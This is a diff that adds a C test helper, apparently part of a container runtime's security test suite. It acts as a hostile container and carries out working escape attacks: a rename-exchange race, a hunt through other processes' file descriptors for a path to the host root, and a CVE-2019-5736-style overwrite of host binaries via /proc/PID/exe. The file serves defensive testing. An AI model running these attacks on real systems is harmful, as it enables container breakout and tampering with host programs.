@@ -1,0 +1,172 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * attack: what a hostile container or volume does, for tests/security. Each word of the command line is one attack; it goes on until killed unless it says
+ * otherwise, and prints "ESCAPE …" when it got where it must not.
+ *
+ *   swap A B          exchanges two names of one directory, as fast as the kernel allows (renameat2 RENAME_EXCHANGE)
+ *   fds NAME [MS]     looks into /proc/PID/fd of every other process for a directory from which a file NAME can be opened, by ".." too
+ *   exe TEXT [MS]     opens /proc/PID/exe of every other process and tries to write TEXT into it (CVE-2019-5736)
+ *   open PATH         opens PATH for reading and writing; prints "open" or the error, ends
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+static long now_ms(void)
+{
+	struct timespec t;
+
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
+}
+
+static int attack_swap(char **argv)
+{
+	for (;;)
+		renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
+	return 0;
+}
+
+/* Calls fn for each process but ourselves until the time is over. */
+static int each_process(long ms, int (*fn)(const char *pid, const char *arg), const char *arg)
+{
+	long end = ms ? now_ms() + ms : 0;
+	char self[16];
+
+	snprintf(self, sizeof self, "%d", getpid());
+	do {
+		DIR *d = opendir("/proc");
+		struct dirent *x;
+
+		while (d && (x = readdir(d)))
+			if (*x->d_name >= '1' && *x->d_name <= '9' && strcmp(x->d_name, self) != 0 && fn(x->d_name, arg))
+				return 1;
+		if (d)
+			closedir(d);
+	} while (!end || now_ms() < end);
+	return 0;
+}
+
+static int try_fds(const char *pid, const char *name)
+{
+	char path[64], up[512];
+	DIR *d;
+	struct dirent *x;
+
+	snprintf(path, sizeof path, "/proc/%s/fd", pid);
+	d = opendir(path);
+	while (d && (x = readdir(d))) {
+		char link[512];
+		int fd;
+
+		snprintf(link, sizeof link, "%s/%s", path, x->d_name);
+		fd = open(link, O_RDONLY | O_DIRECTORY | O_NONBLOCK);
+		if (fd < 0)
+			continue;
+		/* The directory itself, and what is above it: a directory outside our root leads up to the host's root. */
+		strcpy(up, "");
+		for (int i = 0; i < 16; i++) {
+			char file[1024];
+			int f;
+
+			snprintf(file, sizeof file, "%s%s", up, name);
+			f = openat(fd, file, O_RDONLY);
+			if (f >= 0) {
+				printf("ESCAPE %s by %s\n", file, link);
+				fflush(stdout);
+				return 1;
+			}
+			strcat(up, "../");
+		}
+		close(fd);
+	}
+	if (d)
+		closedir(d);
+	return 0;
+}
+
+static int try_exe(const char *pid, const char *text)
+{
+	static char tried[64];
+	char path[64], self[64], name[256];
+	struct stat mine, theirs;
+	int fd, w;
+	ssize_t n;
+
+	snprintf(path, sizeof path, "/proc/%s/exe", pid);
+	fd = open(path, O_RDONLY);
+	if (fd < 0)
+		return 0;
+	n = readlink(path, name, sizeof name - 1);
+	name[n < 0 ? 0 : n] = '\0';
+	/* Programs of the container's own tree are no prize. */
+	if (fstat(fd, &theirs) < 0 || stat("/bin/busybox", &mine) < 0 || theirs.st_dev == mine.st_dev) {
+		close(fd);
+		return 0;
+	}
+	if (strcmp(tried, pid) != 0) {
+		snprintf(tried, sizeof tried, "%s", pid);
+		printf("met %s\n", name);
+		fflush(stdout);
+	}
+	/* While it runs the text is busy: keep the descriptor and try until it has ended. */
+	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+	for (int i = 0; i < 2000; i++) {
+		w = open(self, O_WRONLY | O_TRUNC);
+		if (w >= 0) {
+			printf("ESCAPE wrote to %s: %zd\n", name, write(w, text, strlen(text)));
+			fflush(stdout);
+			return 1;
+		}
+		if (errno != ETXTBSY)
+			break;
+		usleep(500);
+	}
+	close(fd);
+	return 0;
+}
+
+static int attack_fds(char **argv)
+{
+	return each_process(argv[1] ? atol(argv[1]) : 0, try_fds, argv[0]);
+}
+
+static int attack_exe(char **argv)
+{
+	return each_process(argv[1] ? atol(argv[1]) : 0, try_exe, argv[0]);
+}
+
+static int attack_open(char **argv)
+{
+	int fd = open(argv[0], O_RDWR | O_NONBLOCK);
+
+	puts(fd >= 0 ? "open" : strerror(errno));
+	return fd < 0;
+}
+
+static const struct attack {
+	const char *name;
+	int words;
+	int (*run)(char **argv);
+} attacks[] = {
+	{ "swap", 2, attack_swap },
+	{ "fds", 1, attack_fds },
+	{ "exe", 1, attack_exe },
+	{ "open", 1, attack_open },
+};
+
+int main(int argc, char **argv)
+{
+	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
+		if (argc >= 2 + attacks[i].words && strcmp(argv[1], attacks[i].name) == 0)
+			return attacks[i].run(argv + 2);
+	fputs("usage: attack swap A B | fds NAME [MS] | exe TEXT [MS] | open PATH\n", stderr);
+	return 2;
+}
